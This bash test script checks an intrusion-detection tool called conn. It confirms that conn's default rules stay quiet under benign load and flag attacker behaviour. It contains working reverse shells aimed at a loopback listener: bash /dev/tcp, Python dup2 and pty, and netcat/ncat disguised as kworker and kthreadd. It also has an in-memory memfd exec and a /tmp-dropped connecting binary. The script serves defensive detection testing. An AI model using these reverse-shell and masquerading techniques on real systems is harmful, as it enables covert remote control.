#!/bin/bash
# Shows the default rules at work: quiet on a busy machine, and loud about what intruders do.
#
# usage: tests/default-rules.sh           as root, on Debian
#
# Installs what is missing of the Debian packages below (they stay installed), and starts servers of its own on loopback, as
# tests/real-servers.sh does. In the background `conn tail --json --alerts` judges by the default rules while each row of the
# table does something. A row must raise exactly the rules that it expects, each about the program that did it; most of those
# that raise something have a benign twin that must raise nothing. What a row does is also checked to have happened. Alerts about
# processes that are none of the script's are counted and reported, but no part of a verdict. Ends only what it started. Takes about
# three minutes, half of it in the build. Exit status 1: a row is wrong.
#
# CONN names a ready binary; without it cargo builds one. BUILD is what cargo builds as a row, in cargo's own words: -p xtask, if
# nothing is said; with BUILD=--workspace it is all of conn, which takes minutes longer. RULES names a folder of rules that takes
# the place of the built-in ones: RULES=conn-user/src/rules/defaults tries changed default rules without a build.
#
# Columns: `ms` is from the kernel event that caused the alert (of what is missing: from the end of the grace) until a reader of
# conn's output had the line; the slowest of the row. No verdict depends on it.

# shellcheck disable=SC2034
script=default-rules
packages=(nginx postgresql openssh-server openssh-client wrk iproute2 curl python3 netcat-traditional ncat util-linux)
load_seconds=8
grace=2
. "$(dirname "$0")/servers.sh"
install_packages

target=$(realpath -m "${CARGO_TARGET_DIR:-target}")
if [ -z "${CONN:-}" ]; then
    cargo build --quiet -p conn-user
    CONN=$target/debug/conn
fi
read -ra build <<<"${BUILD:--p xtask}"

# pyenv and its like put a shell script before Debian's.
python=/usr/bin/python3
python_exe=$(realpath "$python")
bash_exe=$(realpath /bin/bash)
sh_exe=$(realpath /bin/sh)
netcat=$(command -v nc.traditional)
# A directory that is nobody's business, other than $dir, which is in /tmp.
aside=$(mktemp -d /opt/conn-default-rules.XXXXXX)
made+=("$aside")
chmod 755 "$aside"

# --- servers --------------------------------------------------------------------------------------------------------------------

mapfile -t ports < <("$python" -c '
import socket
taken = [socket.create_server(("127.0.0.1", 0)) for _ in range(5)]
print(*(s.getsockname()[1] for s in taken), sep="\n")')
http=${ports[0]} sql=${ports[1]} ssh=${ports[2]} intruder=${ports[3]} spare=${ports[4]}
serve_nginx "$http"
serve_postgres "$sql"
serve_ssh "$ssh"

# Whoever waits for reverse shells: gives each two commands, and writes down what it answers.
# shellcheck disable=SC2016 # a program in Python
start intruder "$python" -c '
import socket, sys
with socket.create_server(("127.0.0.1", int(sys.argv[1]))) as server:
    while True:
        peer, _ = server.accept()
        with peer:
            peer.sendall(b"echo answer-$((6 * 7)); exit\n")
            while answer := peer.recv(4096):
                print(answer, flush=True)
' "$intruder"
shells_obeyed() {
    grep -c answer-42 "$dir/intruder.log" || true
}

# --- conn -----------------------------------------------------------------------------------------------------------------------

# One line for each step of an alert: phase, rule, executable, ms, whether it is about a process of this script, the ids of the
# process and its ancestors, the cause of what is missing, and the exception that would suppress it; between tabs.
reader='
import json, sys, time
mine = int(sys.argv[1])
for line in sys.stdin:
    read = time.clock_gettime_ns(time.CLOCK_BOOTTIME)
    event = json.loads(line)
    if event["kind"] != "alert":
        continue
    alert, process = event["alert"], event.get("process")
    pids = [process["pid"]] + [a["pid"] for a in process["ancestors"]] if process else []
    own = "own" if not process or mine in pids else "foreign"
    print(
        alert["phase"], alert["rule"], (process or {}).get("exe") or "-", (read - event["boot_ns"]) // 1_000_000, own,
        " ".join(map(str, pids)) or "-", alert["evidence"].get("cause") or "-", alert["suppress"] or "-", sep="\t", flush=True,
    )
'
# Starts conn; its alerts are then in the file $alerts.
watch() {
    local name=$1
    shift
    alerts=$dir/$name.alerts
    mkfifo "$dir/$name.json"
    "$python" -c "$reader" $$ <"$dir/$name.json" >"$alerts" 2>"$dir/$name-reader.log" &
    started+=($!)
    "$CONN" tail --json --alerts ${RULES:+--rules "$RULES"} "$@" >"$dir/$name.json" 2>"$dir/$name.log" </dev/null &
    started+=($!)
    conn=$!
    until_works "$name" grep -q "conn: tracing" "$dir/$name.log"
    # What was there at the start is judged too.
    sleep 1
}
unwatch() {
    kill "$conn"
    wait "$conn"
    lost=$((lost + $(sed -n 's/.*"lost":\([0-9]*\),"undecoded".*/\1/p' "$dir/$1.log")))
}

# --- the table ------------------------------------------------------------------------------------------------------------------

passed=0 failed=0 skipped=0 lost=0
line() {
    printf '%-46s %-44s %-44s %4s  %s\n' "$@"
}

# Runs a function as a row. It returns 0 if what it does has happened, and 77 if that cannot be here; $root is then the process
# that did it, or 0. Expected are rules, each with the executable that it must name ("-": none): rule=exe; of the phase $phase.
row() {
    local name=$1 doing=$2 code=0 from want reported tries=0 verdict
    shift 2
    root=0 note=
    from=$(wc -l <"$alerts")
    "$doing" || code=$?
    want=$(printf '%s\n' "$@" | sort)
    # Each alert of this script of that phase, as it must be: rule=exe, and a process that is none of the row's is marked.
    seen() {
        tail -n "+$((from + 1))" "$alerts" | awk -F '\t' -v phase="$phase" -v root="$root" '
            $1 == phase && $5 == "own" {
                stray = root && $6 != "-" && index(" " $6 " ", " " root " ") == 0
                print $2 "=" $3 (stray ? " (of another process)" : "")
            }' | sort
    }
    reported=$(seen)
    while [ -n "$want" ] && [ "$(sort -u <<<"$reported")" != "$want" ] && [ "$tries" -lt 50 ]; do
        tries=$((tries + 1))
        sleep 0.1
        reported=$(seen)
    done
    # For what must not come.
    sleep 0.7
    reported=$(seen)
    local ms
    ms=$(tail -n "+$((from + 1))" "$alerts" | awk -F '\t' -v phase="$phase" '
        $1 == phase && $5 == "own" && (ms == "" || $4 > ms) { ms = $4 } END { print ms }')
    if [ "$(sort -u <<<"$reported")" != "$want" ]; then
        verdict=FAILED
    elif [ "$code" -eq 77 ]; then
        verdict=skipped
    elif [ "$code" -ne 0 ]; then
        verdict="FAILED: it did not happen"
    else
        verdict=ok
    fi
    case $verdict in
        ok) passed=$((passed + 1)) ;;
        skipped) skipped=$((skipped + 1)) ;;
        *) failed=$((failed + 1)) ;;
    esac
    line "$name" "$(names "$want")" "$(names "$reported")" "${ms:--}" "$verdict${note:+ ($note)}"
    if [ "$verdict" = FAILED ]; then
        printf '    expected: %s\n' "${want:-none}" >&2
        tail -n "+$((from + 1))" "$alerts" | grep -P '\town\t' | sed 's/^/    raised: /' >&2 || true
    fi
}
# The rules of lines rule=exe, each once, with how often it is there.
names() {
    local list
    list=$(cut -d= -f1 <<<"$1" | sort | uniq -c | awk 'NF > 1 { printf "%s%s%s", sep, $2, ($1 > 1 ? "*" $1 : ""); sep = " " }')
    echo "${list:-none}"
}
phase=raised

# --- rows: quiet ----------------------------------------------------------------------------------------------------------------

cargo_build() {
    made+=("$target/default-rules")
    rm -rf "$target/default-rules"
    local from=$SECONDS
    CARGO_TARGET_DIR=$target/default-rules cargo build --quiet "${build[@]}" >"$dir/cargo.log" 2>&1 || return
    note="${build[*]}, $((SECONDS - from)) s"
    [ -d "$target/default-rules/debug" ]
}

apt_update() {
    if ! apt-get -qq update -o APT::Update::Error-Mode=any >"$dir/apt.log" 2>&1; then
        note="no package mirror can be reached"
        return 77
    fi
}

nginx_under_wrk() {
    wrk -t 2 -c 60 -d "${load_seconds}s" "http://127.0.0.1:$http/" >"$dir/wrk.log" 2>&1 || return
    # A connection for each request, too.
    wrk -t 2 -c 20 -d 2s -H 'Connection: close' "http://127.0.0.1:$http/" >"$dir/wrk-close.log" 2>&1 || return
    note="$(awk '/requests in/ { print $1 }' "$dir/wrk.log" "$dir/wrk-close.log" | xargs | sed 's/ / and /') requests"
}

postgres_under_pgbench() {
    "$pg_bin/pgbench" "${pg[@]}" -c 10 -j 2 -T "$load_seconds" postgres >"$dir/pgbench.log" 2>&1 || return
    # A connection for each transaction, too.
    "$pg_bin/pgbench" "${pg[@]}" -C -c 2 -T 3 postgres >"$dir/churn.log" 2>&1 || return
    note="$(sed -n 's/.*actually processed: //p' "$dir/pgbench.log" "$dir/churn.log" | xargs | sed 's/ / and /') transactions"
}

ssh_command() {
    [ "$(ssh "${ssh_options[@]}" root@127.0.0.1 'ls / >/dev/null; echo here' 2>"$dir/ssh.log")" = here ]
}

ssh_terminal() {
    ssh "${ssh_options[@]}" -tt root@127.0.0.1 'tty; bash -ic "ls / | wc -l; exit"' </dev/null >"$dir/ssh-tt.log" 2>&1 || return
    grep -q /dev/pts/ "$dir/ssh-tt.log"
}

# --- rows: loud, and their twins ------------------------------------------------------------------------------------------------

# Whether one more shell did what it was asked.
one_more() {
    local before=$1 tries=0
    until [ "$(shells_obeyed)" -gt "$before" ]; do
        tries=$((tries + 1))
        [ "$tries" -lt 50 ] || return
        sleep 0.1
    done
}

bash_reverse_shell() {
    local before
    before=$(shells_obeyed)
    # A session of its own: an interactive bash takes the terminal else. And no start-up files of whoever runs this.
    HOME=$dir setsid bash -c "bash -i >& /dev/tcp/127.0.0.1/$intruder 0>&1" &
    root=$!
    wait "$root" || true
    one_more "$before"
}
bash_starts_curl() {
    bash -c "curl -fs http://127.0.0.1:$http/ | cat | bash -c 'read line; [ \"\$line\" = hello ]'"
}

python_reverse_shell() {
    local before
    before=$(shells_obeyed)
    "$python" -c '
import os, socket, subprocess, sys
s = socket.socket()
s.connect(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])' "$intruder" &
    root=$!
    wait "$root" || true
    one_more "$before"
}
python_pty_reverse_shell() {
    local before
    before=$(shells_obeyed)
    setsid "$python" -c '
import os, pty, socket, sys
s = socket.socket()
s.connect(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")' "$intruder" &
    root=$!
    wait "$root" || true
    one_more "$before"
}
python_feeds_shell() {
    # shellcheck disable=SC2016 # a program in Python
    "$python" -c '
import subprocess, sys, urllib.request
page = urllib.request.urlopen("http://127.0.0.1:%s/" % sys.argv[1]).read()
subprocess.run(["/bin/sh", "-c", "read line; [ $line = hello ]"], input=page, check=True)' "$http"
}

netcat_reverse_shell() {
    local before
    before=$(shells_obeyed)
    cp "$netcat" "$aside/kworker"
    "$aside/kworker" -e /bin/sh 127.0.0.1 "$intruder" >/dev/null 2>&1 </dev/null &
    root=$!
    wait "$root" || true
    one_more "$before"
}
ncat_reverse_shell() {
    local before
    before=$(shells_obeyed)
    cp "$(command -v ncat)" "$aside/kthreadd"
    "$aside/kthreadd" -e /bin/sh 127.0.0.1 "$intruder" >/dev/null 2>&1 </dev/null &
    root=$!
    wait "$root" || true
    one_more "$before"
}
netcat_asks_port() {
    "$netcat" -z 127.0.0.1 "$http"
}

# Listens in a network namespace of its own, so that no port of this machine is taken: address and port.
python_listens() {
    unshare --net "$python" -c '
import socket, sys, time
with socket.create_server((sys.argv[1], int(sys.argv[2]))):
    print("listens", flush=True)
    time.sleep(1)' "$@" >"$dir/listens.log" 2>&1 &
    root=$!
    wait "$root" && grep -q listens "$dir/listens.log"
}
python_at_443() {
    python_listens 0.0.0.0 443
}
python_at_high_port() {
    python_listens 0.0.0.0 8443
}

memfd_connects() {
    "$python" -c '
import os, sys
with open(sys.argv[1], "rb") as file:
    program = file.read()
fd = os.memfd_create("update")
assert os.write(fd, program) == len(program)
os.execv("/proc/self/fd/%d" % fd, ["update", "-z", *sys.argv[2:]])' "$netcat" 127.0.0.1 "$http" &
    root=$!
    wait "$root"
}
copy_aside_connects() {
    cp "$netcat" "$aside/update"
    "$aside/update" -z 127.0.0.1 "$http"
}

copy_in_tmp_connects() {
    cp "$(command -v curl)" "$dir/update"
    "$dir/update" -fs "http://127.0.0.1:$http/" >/dev/null &
    root=$!
    wait "$root"
}
copy_in_tmp_runs() {
    cp "$(command -v curl)" "$dir/version"
    "$dir/version" --version >/dev/null
}

nginx_restarts() {
    kill "$nginx"
    wait "$nginx" || true
    serve_nginx "$http"
    sleep "$((grace + 1))"
}
nginx_ends() {
    kill "$nginx"
    wait "$nginx" || true
    sleep "$grace"
    # The alert is about no process: the cause names how it went.
    note='no alert reported a cause'
    local tries
    for tries in {1..50}; do
        if note=$(awk -F '\t' '$2 == "web.gone" { print $7; found = 1 } END { exit !found }' "$alerts"); then
            return
        fi
        sleep 0.1
    done
}
nginx_is_back() {
    serve_nginx "$http"
}

# --- the run --------------------------------------------------------------------------------------------------------------------

line "what happens" expected raised ms verdict
watch quiet
row "cargo build" cargo_build
row "apt-get update" apt_update
row "nginx under wrk" nginx_under_wrk
row "PostgreSQL under pgbench" postgres_under_pgbench
row "ssh to itself, a command" ssh_command
row "ssh to itself, a terminal" ssh_terminal
unwatch quiet

# What must be there only the operator knows: one expectation besides the default rules.
mkdir "$dir/rules"
cat >"$dir/rules/web.toml" <<END
$([ -n "${RULES:-}" ] || echo 'use = "defaults"')

[[rule]]
id = "web.gone"
kind = "missing"
title = "The web server does not listen"
severity = "critical"
match = 'lport:$http exe:$(realpath "$(command -v nginx)")'
expect = "listener"
grace = "${grace}s"
throttle = "0s"

# Off by default; all of this happens on loopback.
[[override]]
id = "process.drop-place-loopback"
enabled = true
END
watch loud --rules "$dir/rules"
row "reverse shell in bash" bash_reverse_shell "process.shell-loopback=$bash_exe" "process.reverse-shell=$bash_exe"
row "  twin: bash starts curl, and a bash after it" bash_starts_curl
row "reverse shell in python" python_reverse_shell "process.reverse-shell=$sh_exe"
row "  the same with a pseudo-terminal" python_pty_reverse_shell "process.reverse-shell-pty=$python_exe"
row "  twin: python fetches, and feeds a shell" python_feeds_shell
row "reverse shell by a netcat named kworker" netcat_reverse_shell "process.reverse-shell=$sh_exe" \
    "process.shell-argument=$aside/kworker" "process.kernel-name=$aside/kworker"
row "reverse shell by an ncat named kthreadd" ncat_reverse_shell "process.shell-argument=$aside/kthreadd" \
    "process.kernel-name=$aside/kthreadd"
row "  twin: netcat under its name asks a port" netcat_asks_port
row "python listens on 443" python_at_443 "server.interpreter=$python_exe"
row "  twin: python listens on 8443" python_at_high_port
row "a memfd program connects" memfd_connects "process.memfd=/memfd:update"
row "  twin: the same program, from a file" copy_aside_connects
row "an executable in /tmp connects" copy_in_tmp_connects "process.drop-place-loopback=$dir/update"
row "  twin: it runs, and does not connect" copy_in_tmp_runs
row "  twin: nginx restarts, within the grace" nginx_restarts
row "nginx's listener is gone" nginx_ends "web.gone=-"
phase=resolved
row "  it is back" nginx_is_back "web.gone=-"
unwatch loud

foreign=$(cat "$dir"/*.alerts | awk -F '\t' '$1 == "raised" && $5 == "foreign" { print "    " $2 "  " $3 }' | sort | uniq -c)
if [ -n "$foreign" ]; then
    echo "alerts about what others do on this machine, which are no part of a row:"
    echo "$foreign"
fi
echo "$passed passed, $failed failed, $skipped skipped; $lost records lost"
[ "$failed" -eq 0 ]
